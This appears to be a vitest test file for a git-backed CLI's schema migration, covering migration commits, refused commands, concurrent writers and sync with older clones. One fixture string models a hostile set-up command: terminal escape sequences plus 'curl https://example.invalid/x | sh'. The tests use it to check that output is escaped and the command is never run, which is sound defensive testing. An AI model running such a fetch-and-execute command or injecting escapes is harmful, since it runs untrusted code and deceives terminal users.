/**
 * Schema 2 and its migration (DESIGN §1.3, §2.1; issue 12). A state written at schema 1 (here
 * made by rewriting project.json with git plumbing, as schema 1 stored it) is read as it is; the
 * first command of this version that writes migrates it as a commit of its own
 * (`Pantheon-Op: migrate`), under the command's, both landing at once; the old set-up command
 * is said once, escaped. A sync merge migrates an older side the same way.
 */
import { describe, expect, it } from "vitest";
import { SCHEMA_VERSION } from "../../../src/domain/constants.js";
import { runCli, type CliResult } from "../../helpers/cli.js";
import { makeOriginAndClones, type Clone } from "../../helpers/clones.js";
import { git, makeRepo, stateRef } from "../../helpers/repo.js";
import { changedBetween, rewriteState, stateJson } from "../../helpers/state-plumbing.js";

const REF = "refs/coordination/main";
/** A set-up command as a hostile collaborator would write it: it must be shown, never obeyed. */
const SETUP = "npm ci\u001b]0;owned\u0007\u001b[2J; curl https://example.invalid/x | sh\u202e";
const ESCAPED = String.raw`"npm ci\u001b]0;owned\u0007\u001b[2J; curl https://example.invalid/x | sh\u202e"`;
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

async function run(dir: string, argv: string[]): Promise<CliResult> {
  return runCli(argv, { cwd: dir });
}

async function ok(dir: string, argv: string[]): Promise<CliResult> {
  const r = await run(dir, argv);
  if (r.exitCode !== 0) throw new Error(`pantheon ${argv.join(" ")} exited ${r.exitCode}\n${r.stdout}\n${r.stderr}`);
  return r;
}

/** project.json as schema 1 stored it: schemaVersion 1 and `worktree.setup`; plus fields of a version newer still. */
function toSchema1(p: any, setup: string | null = SETUP): unknown {
  return {
    ...p,
    schemaVersion: 1,
    worktree: { ...p.worktree, setup },
    futureField: { kept: true },
    features: { ...p.features, futureFeature: "kept" },
  };
}

/** A repository whose state is at schema 1, with task 1 and a mission of Hephaestus. */
async function schema1Repo(): Promise<string> {
  const dir = makeRepo();
  await ok(dir, ["init", "--yes"]);
  await ok(dir, ["mission", "start", "--role", "engineer", "--persona", "Hephaestus"]);
  await ok(dir, ["task", "create", "--title", "Old work", "--role", "engineer"]);
  rewriteState(dir, { "project.json": (p) => toSchema1(p) }, "state as schema 1 left it");
  return dir;
}

const trailers = (dir: string, commit: string) => git(dir, "log", "-1", "--format=%(trailers:only,unfold)", commit);
const migrations = (dir: string) =>
  git(dir, "log", "--format=%H", "--grep=^Pantheon-Op: migrate$", REF).split("\n").filter(Boolean);

function expectMigrated(dir: string, at = REF): void {
  const p = stateJson(dir, "project.json", at);
  expect(p.schemaVersion).toBe(SCHEMA_VERSION);
  expect(p.worktree, "worktree.setup is gone, worktree.copy stays").toEqual({ copy: [] });
  expect(p.futureField, "a field this version does not know survives the migration").toEqual({ kept: true });
  expect(p.features.futureFeature).toBe("kept");
}

describe("reading a state of an older schema", () => {
  it("works without writing anything, and without a word about migrating", async () => {
    const dir = await schema1Repo();
    const before = stateRef(dir);
    for (const argv of [
      ["task", "list"],
      ["task", "show", "1"],
      ["mission", "list"],
      ["dashboard"],
      ["task", "next"],
      ["log"],
      ["persona", "list"],
      ["doctor"],
    ]) {
      const r = await run(dir, argv);
      expect(r.exitCode, `pantheon ${argv.join(" ")}\n${r.stderr}`).toBe(0);
      expect(r.stderr, `pantheon ${argv.join(" ")}`).not.toMatch(/set-up command|migrat/);
    }
    expect(stateRef(dir), "reads never write").toBe(before);
    expect(stateJson(dir, "project.json").schemaVersion).toBe(1);
  });
});

describe("the first write of this version to an older state", () => {
  it("lands the migration as its own commit under the command's: project.json loses worktree.setup, keeps the rest, and the old command is said once, escaped", async () => {
    const dir = await schema1Repo();
    // Reads first: the read cache now knows this commit (and must not answer "current" for it).
    await ok(dir, ["task", "list"]);
    await ok(dir, ["dashboard"]);
    const before = stateRef(dir)!;
    const r = await ok(dir, ["task", "note", "1", "first write of the new version"]);
    expect(r.stdout).toMatch(/^✓ /);
    const after = stateRef(dir)!;
    const migration = git(dir, "rev-parse", `${after}^`).trim();
    expect(git(dir, "rev-parse", `${migration}^`).trim(), "two commits: the migration, then the command").toBe(before);
    expect(trailers(dir, migration)).toContain("Pantheon-Op: migrate");
    expect(changedBetween(dir, before, migration), "the migration changes project.json only").toEqual(["project.json"]);
    expect(trailers(dir, after)).toContain("Pantheon-Op: task.note");
    expect(changedBetween(dir, migration, after)).toEqual(["tasks/01/1.json"]);
    expectMigrated(dir);
    expect(
      stateJson(dir, "project.json").updatedAt,
      "deterministic: two clones migrating the same state write the same blob",
    ).toBe(stateJson(dir, "project.json", before).updatedAt);

    const told = r.stderr.split("\n").filter((l) => l.includes("set-up command"));
    expect(told, r.stderr).toHaveLength(1);
    expect(told[0]).toContain(ESCAPED);
    expect(told[0]).toContain(".pantheon/worktree-setup");
    expect(r.stderr, "no raw control character reaches the terminal").not.toMatch(RAW_CONTROL);

    const next = await ok(dir, ["task", "note", "1", "second write"]);
    expect(next.stderr, "said once").not.toContain("set-up command");
    expect(migrations(dir)).toHaveLength(1);
    expect(git(dir, "rev-parse", `${stateRef(dir)}^`).trim()).toBe(after);
  });

  it("a refused command leaves the ref as it was: no migration either", async () => {
    const dir = await schema1Repo();
    const before = stateRef(dir);
    for (const argv of [
      ["task", "claim", "1"],
      ["task", "close", "1"],
      ["task", "show", "99"],
      ["task", "note", "99", "x"],
      ["epic", "abort", "1", "--reason", "x"],
    ]) {
      const r = await run(dir, argv);
      expect(r.exitCode, `pantheon ${argv.join(" ")}`).not.toBe(0);
      expect(r.stderr, `pantheon ${argv.join(" ")}`).toMatch(/^✗ /);
      expect(r.stderr).not.toContain("set-up command");
      expect(stateRef(dir), `pantheon ${argv.join(" ")} leaves the ref untouched`).toBe(before);
    }
    expect(stateJson(dir, "project.json").schemaVersion).toBe(1);
  });

  it("a state without a set-up command migrates silently", async () => {
    const dir = makeRepo();
    await ok(dir, ["init", "--yes"]);
    rewriteState(dir, { "project.json": (p) => toSchema1(p, null) });
    const r = await ok(dir, ["task", "create", "--title", "x", "--role", "engineer"]);
    expect(r.stderr).toBe("");
    expectMigrated(dir);
    expect(migrations(dir)).toHaveLength(1);
  });

  it("two writers racing over the old state: one migration commit, said once, and both commands land", async () => {
    const dir = await schema1Repo();
    const results = await Promise.all(
      [0, 1, 2].map((i) => run(dir, ["task", "create", "--title", `racer ${i}`, "--role", "engineer"])),
    );
    for (const r of results) expect(r.exitCode, r.stderr).toBe(0);
    expect(migrations(dir)).toHaveLength(1);
    expect(
      results.filter((r) => r.stderr.includes("set-up command")),
      "said by the writer whose migration landed",
    ).toHaveLength(1);
    expect((await ok(dir, ["task", "list", "--json"])).stdout).toContain("racer 2");
    expect(JSON.parse((await ok(dir, ["task", "list", "--json"])).stdout).data).toHaveLength(4);
    expectMigrated(dir);
  });
});

describe("sync between a migrated clone and a remote still at the older schema", () => {
  /** Two clones and an origin at schema 1 (the state rewritten by clone 0 and published with plain git). */
  async function schema1Origin(): Promise<{ a: Clone; b: Clone; originRef: () => string | null }> {
    const { clones, originRef } = await makeOriginAndClones(2);
    const [a, b] = clones as [Clone, Clone];
    await a.ok(["task", "create", "--title", "Shared", "--role", "engineer"]);
    rewriteState(a.dir, { "project.json": (p) => toSchema1(p) });
    await a.ok(["sync"]);
    await b.ok(["sync"]);
    expect(stateJson(b.dir, "project.json").schemaVersion).toBe(1);
    return { a, b, originRef };
  }

  it("merging: the remote's side is migrated by its own commit inside the merge; the result is at this schema and is published", async () => {
    const { a, b, originRef } = await schema1Origin();
    // B stays at schema 1 and publishes a new record and new project settings (another set-up
    // command among them), as an older Pantheon would: plumbing, then plain git push.
    rewriteState(b.dir, {
      "tasks/02/2.json": () => ({
        ...stateJson(b.dir, "tasks/01/1.json"),
        uid: "b-task-uid-0002",
        number: 2,
        title: "From an older clone",
        notes: [],
      }),
      "counters.json": (c) => ({ ...c, tasks: 2 }),
      "project.json": (p) => ({
        ...p,
        description: "changed by an older clone",
        worktree: { ...p.worktree, setup: "make bootstrap" },
      }),
    });
    b.git("push", "-q", "origin", `${REF}:${REF}`);
    const remoteTip = originRef()!;
    // A writes (migrating its own state), then syncs: diverged.
    const write = await a.ok(["task", "note", "1", "after the upgrade"]);
    expect(write.stderr).toContain("set-up command");
    const r = await a.ok(["sync"]);
    expect(r.stderr, "the remote side's migration names its old command").toContain('"make bootstrap"');
    expect(r.stderr).not.toMatch(RAW_CONTROL);
    expect(a.ref()).toBe(originRef());
    // project.json changed on both sides: the published one is kept, migrated (never the schema-1 one).
    expectMigrated(a.dir);
    expect(stateJson(a.dir, "project.json").description).toBe("changed by an older clone");
    const merge = a.ref()!;
    const secondParent = git(a.dir, "rev-parse", `${merge}^2`).trim();
    expect(trailers(a.dir, secondParent), "the remote side reached the merge through a migration commit").toContain(
      "Pantheon-Op: migrate",
    );
    expect(git(a.dir, "rev-parse", `${secondParent}^`).trim()).toBe(remoteTip);
    expect(JSON.parse((await a.ok(["task", "list", "--json"])).stdout).data.map((t: any) => t.title)).toEqual([
      "Shared",
      "From an older clone",
    ]);
    expect(git(a.dir, "cat-file", "-p", `${merge}:project.json`)).not.toContain("setup");

    // B (this version) takes the published state as it is.
    const back = await b.ok(["sync"]);
    expect(back.stderr).not.toContain("set-up command");
    expect(b.ref()).toBe(a.ref());
  });

  it("a fast-forward or a push moves no schema: nothing is written, nothing said", async () => {
    const { a, b, originRef } = await schema1Origin();
    rewriteState(b.dir, { "tasks/01/1.json": (t) => ({ ...t, title: "Renamed by an older clone" }) });
    b.git("push", "-q", "origin", `${REF}:${REF}`);
    const r = await a.ok(["sync"]);
    expect(r.stderr).not.toContain("set-up command");
    expect(a.ref()).toBe(originRef());
    expect(stateJson(a.dir, "project.json").schemaVersion, "a fast-forward takes the remote as it is").toBe(1);
  });

  it("a clone whose own state a newer version wrote refuses to merge it (exit 1, upgrade), moving neither ref", async () => {
    const { clones, originRef } = await makeOriginAndClones(2);
    const [a, b] = clones as [Clone, Clone];
    await b.ok(["task", "create", "--title", "Published", "--role", "engineer"]);
    await b.ok(["sync"]);
    const published = originRef();
    rewriteState(
      a.dir,
      { "project.json": (p) => ({ ...p, schemaVersion: SCHEMA_VERSION + 1 }) },
      "written by a newer Pantheon",
    );
    const local = a.ref();
    const r = await run(a.dir, ["sync"]);
    expect(r.exitCode, r.stderr).toBe(1);
    expect(r.stderr).toMatch(new RegExp(`^✗ The coordination state has schemaVersion ${SCHEMA_VERSION + 1}`));
    expect(r.stderr).toMatch(/upgrade pantheon/);
    expect(a.ref()).toBe(local);
    expect(originRef()).toBe(published);
  });
});
